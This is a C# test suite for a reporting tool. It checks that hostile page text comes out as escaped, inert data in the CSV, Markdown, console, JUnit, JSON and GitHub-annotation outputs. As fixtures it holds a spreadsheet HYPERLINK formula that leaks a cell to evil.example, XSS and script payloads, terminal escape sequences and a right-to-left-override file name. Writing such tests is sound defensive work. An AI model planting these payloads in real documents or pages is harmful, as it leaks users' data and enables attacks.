using System.Text.Json;
using System.Text.RegularExpressions;
using System.Xml;
using CsvHelper;
using Syndication.Reporting.Tests.Support;

namespace Syndication.Reporting.Tests;

/// <summary>Hostile page text in the text formats: it stays data, one line per cell or event, and never a command.</summary>
public sealed partial class HostileTextFormatsTests
{
    private static readonly char[] Injection = ['=', '+', '-', '@', '\t', '\r'];

    [Test]
    public void Csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote()
    {
        var cells = CsvCells(Render.Text(new CsvReporter(), SampleRuns.Audit()));
        var texts = cells.Skip(1).SelectMany(r => r).ToList();
        Assert.That(texts.Where(t => t.Length > 0 && Injection.Contains(t[0])), Is.Empty, "no cell starts like a formula");
        Assert.That(texts, Does.Contain("'" + SampleRuns.HostilePartner.Replace("\u202E", "\\u202E", StringComparison.Ordinal)));
        Assert.That(texts, Does.Contain("'" + Hostile.PlusFormula));
        Assert.That(texts, Does.Contain("'" + Hostile.AtFormula));
        Assert.That(texts.Any(t => t.StartsWith("'" + Hostile.MinusFormula, StringComparison.Ordinal)), Is.True);
        Assert.That(texts.Any(t => t.StartsWith("'=1+2 took too long", StringComparison.Ordinal)), Is.True);
    }

    [Test]
    public void Csv_is_utf8_with_a_bom_crlf_rows_and_one_line_per_cell()
    {
        var bytes = Render.Bytes(new CsvReporter(), SampleRuns.Audit());
        Assert.That(bytes.Take(3), Is.EqualTo(new byte[] { 0xEF, 0xBB, 0xBF }));
        var text = Render.Text(new CsvReporter(), SampleRuns.Audit());
        Assert.That(text, Does.EndWith("\r\n"));
        Assert.That(text.Replace("\r\n", string.Empty, StringComparison.Ordinal), Does.Not.Contain('\n').And.Not.Contain('\r').And.Not.Contain('\u001B'));
        var rows = CsvCells(text);
        Assert.That(rows[0], Is.EqualTo(CsvReporter.Columns));
        Assert.That(rows.Skip(1), Has.All.Count.EqualTo(CsvReporter.Columns.Count));
        Assert.That(rows.Skip(1).Select(r => r[0]).Distinct(), Is.EqualTo(new[] { "1", "2", "3", "4", "5", "6" }), "a row per page and requirement, one for a page without");
        Assert.That(rows, Has.Count.EqualTo(1 + 3 + 3 + 3 + 1 + 1 + 3));
    }

    [Test]
    public void Markdown_escapes_markup_and_pipes_so_rows_keep_their_cells()
    {
        var md = Render.Text(new MarkdownReporter(), SampleRuns.Audit());
        Assert.That(md, Does.Not.Contain('\u001B').And.Not.Contain('\u202E').And.Not.Contain('\r'));
        Assert.That(md, Does.Contain("\\<script\\>").And.Contain("\\@octocat").And.Contain("\\#1").And.Contain("\\$x\\$").And.Contain("\\| cell \\|"));
        var attention = md.Split('\n').SkipWhile(l => l != "### Pages that need attention").Where(l => l.StartsWith("| ", StringComparison.Ordinal)).Skip(2).ToList();
        Assert.That(attention, Has.Count.EqualTo(4), "non-compliant, needs review, the page listed by hand that republishes no original, error");
        foreach (var row in attention)
        {
            var cells = UnescapedPipe().Split(row.Trim()).Skip(1).SkipLast(1).ToList();
            Assert.That(cells, Has.Count.EqualTo(5), row);
            var page = MarkdownLink().Replace(cells[2].Trim(), m => m.Groups["text"].Value);
            foreach (var pageText in new[] { page, cells[3], cells[4] })
            {
                Assert.That(Unescaped(pageText, "<>[]`*_|&$@#"), Is.Empty, pageText);
            }
        }

        var links = MarkdownLink().Matches(md).Select(m => m.Groups["href"].Value).ToList();
        Assert.That(links, Is.EqualTo(new[] { "https://plains.example/story?q=%22%3E%3Cimg%20src=x%20onerror=alert%281%29%3E", "https://gazette.example/local/invoice%E2%80%AEtxt.exe" }));
    }

    /// <summary>The characters of <paramref name="set"/> not preceded by an escaping backslash, in order.</summary>
    private static string Unescaped(string text, string set)
    {
        var found = new System.Text.StringBuilder();
        for (var i = 0; i < text.Length; i++)
        {
            if (text[i] == '\\')
            {
                i++;
            }
            else if (set.Contains(text[i], StringComparison.Ordinal))
            {
                found.Append(text[i]);
            }
        }

        return found.ToString();
    }

    [Test]
    public void Markdown_lists_at_most_max_rows_pages_and_counts_the_rest()
    {
        var md = Render.Text(new MarkdownReporter(maxRows: 1), SampleRuns.Audit());
        Assert.That(md.Split('\n').Count(l => l.StartsWith("| non-compliant", StringComparison.Ordinal) || l.StartsWith("| needs-review", StringComparison.Ordinal) || l.StartsWith("| not-applicable", StringComparison.Ordinal) || l.StartsWith("| error", StringComparison.Ordinal)), Is.EqualTo(1));
        Assert.That(md, Does.Contain("…and 3 more page(s) that need attention"));
    }

    [Test]
    public void Plain_console_output_has_no_escape_character_and_shows_markup_literally()
    {
        var text = Render.Text(new ConsoleReporter(), SampleRuns.Audit());
        Assert.That(text, Does.Not.Contain('\u001B').And.Not.Contain('\u0007').And.Not.Contain('\u202E').And.Not.Contain('\r'));
        Assert.That(text, Does.Contain("\\u001B[2J\\u001B]0;pwned\\u0007clear"));
        Assert.That(text, Does.Contain(Hostile.SpectreMarkup), "Spectre markup in page text is shown, not obeyed");
        Assert.That(text, Does.Contain("invoice\\u202Etxt.exe"));
    }

    [Test]
    public void Coloured_console_output_carries_only_the_reporter_s_own_colour_codes()
    {
        var text = Render.Text(new ConsoleReporter(colour: true, width: 200), SampleRuns.Audit());
        Assert.That(text, Does.Contain("\u001B["), "colour is on");
        var sequences = AnyEscape().Matches(text).Select(m => m.Value).ToList();
        Assert.That(sequences.Where(s => !SgrOnly().IsMatch(s)), Is.Empty, "every escape is a colour (SGR) code");
        Assert.That(text, Does.Not.Contain('\u0007'));
        Assert.That(text, Does.Contain("\\u001B[2J"));
    }

    [Test]
    public void JUnit_is_well_formed_and_carries_hostile_text_as_text()
    {
        var xml = Render.Text(new JUnitReporter(), SampleRuns.Audit());
        var document = new XmlDocument();
        document.LoadXml(xml);
        var failure = (XmlElement)document.SelectSingleNode("//failure")!;
        Assert.That(failure.GetAttribute("message"), Does.Contain(Hostile.Script));
        Assert.That(failure.InnerText, Does.Contain("<img src=x onerror=alert(1)>"));
        Assert.That(document.SelectNodes("//script"), Has.Count.EqualTo(0));
        Assert.That(xml, Does.Not.Contain('\u001B').And.Not.Contain('\u202E').And.Not.Contain('\u0007'));
        var error = (XmlElement)document.SelectSingleNode("//error")!;
        Assert.That(error.GetAttribute("message"), Does.Not.Contain('\n'), "attribute messages are one line");
    }

    [Test]
    public void Json_escapes_markup_characters_and_keeps_the_exact_text()
    {
        var json = Render.Text(new JsonReporter(), SampleRuns.Audit());
        Assert.That(json, Does.Not.Contain("<script").And.Not.Contain('\u001B'));
        using var document = JsonDocument.Parse(json);
        var page = document.RootElement.GetProperty("pages")[1];
        Assert.That(page.GetProperty("url").GetString(), Is.EqualTo("https://plains.example/story?q=" + Hostile.AttributeBreakout));
        Assert.That(page.GetProperty("requirements")[0].GetProperty("evidence")[0].GetProperty("text").GetString(), Does.StartWith(Hostile.LineBreaks));
    }

    [Test]
    public void Annotations_are_one_line_each_with_github_s_escaping()
    {
        using var writer = new StringWriter();
        GitHubAnnotations.Write(SampleRuns.Audit(), writer);
        var lines = writer.ToString().TrimEnd('\n').Split('\n');
        Assert.That(lines, Has.Length.EqualTo(2));
        Assert.That(lines[0], Does.StartWith("::error file=https%3A//plains.example/story?q=").And.Contains(",title=non-compliant%3A Plains Reporter::"));
        Assert.That(lines[1], Does.StartWith("::warning file=/var/pages/local file.html,title=error%3A =HYPERLINK(\"http%3A//evil.example/?leak=\"&A1%2C\"Click\")"));
        Assert.That(writer.ToString(), Does.Not.Contain('\r').And.Not.Contain('\u001B'));
    }

    private static List<List<string>> CsvCells(string text)
    {
        var rows = new List<List<string>>();
        using var reader = CsvReader.FromText(text, CsvReaderOptions.Default with { HasHeader = false });
        while (reader.Read())
        {
            var row = new List<string>();
            for (var i = 0; i < reader.FieldCount; i++)
            {
                row.Add(reader.GetString(i));
            }

            rows.Add(row);
        }

        return rows;
    }

    [GeneratedRegex(@"(?<!\\)\|")]
    private static partial Regex UnescapedPipe();

    [GeneratedRegex(@"^\[(?<text>.*)\]\((?<href>[^)\s]*)\)$|(?<!\\)\[(?<text>[^\]]*)\]\((?<href>[^)\s]*)\)")]
    private static partial Regex MarkdownLink();

    [GeneratedRegex("\u001B[^a-zA-Z]*[a-zA-Z]?")]
    private static partial Regex AnyEscape();

    [GeneratedRegex(@"^\u001B\[[0-9;]*m$")]
    private static partial Regex SgrOnly();
}
